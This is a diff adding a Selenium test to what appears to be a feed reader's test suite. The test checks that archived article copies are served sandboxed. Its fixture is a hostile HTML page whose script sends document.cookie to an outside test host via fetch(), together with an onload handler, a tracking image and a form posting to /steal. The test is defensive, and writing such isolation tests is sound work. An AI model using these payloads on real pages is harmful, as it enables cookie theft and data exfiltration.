@@ -196,3 +196,54 @@ def test_review_draws_the_model_and_apply_redecides_in_a_browser(tmp_path, seeds
     finally:
         proc.send_signal(signal.SIGTERM)
         proc.communicate(timeout=30)
+
+
+def test_an_archived_copy_runs_no_script_and_loads_nothing_from_outside(tmp_path, seeds_dir, web, browser):
+    """The article page links "archived copy, DATE"; /a/ID/original serves the page as fetched, sandboxed:
+    its script, inline handler, external image and form do nothing, and it cannot read the view's cookie."""
+    import html as _html
+
+    from selenium.common.exceptions import NoAlertPresentException, WebDriverException
+    from selenium.webdriver.common.by import By
+
+    from tests.support.web import article_text, rss
+
+    site, outside = web.host(2), web.host(9)
+    title, body = article_text("on_hyesan_gold")
+    paras = "".join(f"<p>{_html.escape(p)}</p>" for p in body.split("\n\n"))
+    hostile = (f"<!DOCTYPE html><html><head><title>{_html.escape(title)}</title>"
+               f"<script>alert('script'); document.title = 'scripted';"
+               f"fetch('{outside.url('/beacon')}?c=' + document.cookie)</script></head>"
+               f"<body onload=\"alert('onload')\"><article><h1>{_html.escape(title)}</h1>{paras}"
+               f"<img src=\"{outside.url('/pixel.png')}\" alt=\"\">"
+               f"<form action=\"{outside.url('/steal')}\" method=\"post\"><input name=\"q\" value=\"x\">"
+               f"<button id=\"go\" type=\"submit\">go</button></form></article></body></html>")
+    page = site.add("/hostile.html", hostile)
+    feed = site.add("/feed.xml", rss("F", [{"title": title, "link": page, "guid": "h"}]),
+                    content_type="application/rss+xml")
+    cfg = write_config(tmp_path, [feed])
+    assert run_cli("--config", str(cfg), "poll", "--json").json()["kept"] == 1
+    listen = f"127.0.0.1:{_free_port()}"
+    proc = _serve(cfg, listen)
+    try:
+        browser.get(f"http://{listen}/")
+        browser.add_cookie({"name": "view_secret", "value": "do-not-leak"})
+        browser.find_elements(By.CSS_SELECTOR, "article.card h2 a")[0].click()
+        link = _after(browser, "/a/", "a[href$='/original']")[0]
+        assert link.text.startswith("archived copy, 20")
+        link.click()
+        _after(browser, "/original", "h1")
+        with pytest.raises(NoAlertPresentException):
+            browser.switch_to.alert.text  # noqa: B018 - no script ran: no dialog
+        assert browser.title == title  # the script that renames it did not run
+        browser.find_element(By.ID, "go").click()  # the form may not submit (sandbox, form-action 'none')
+        try:
+            cookie = browser.execute_script("return document.cookie")
+        except WebDriverException:
+            cookie = ""  # an opaque origin: reading cookies throws
+        assert "do-not-leak" not in (cookie or "")
+        assert "/original" in browser.current_url
+    finally:
+        proc.send_signal(signal.SIGTERM)
+        proc.communicate(timeout=20)
+    assert outside.requests == []  # nothing loaded or sent outside the view's origin
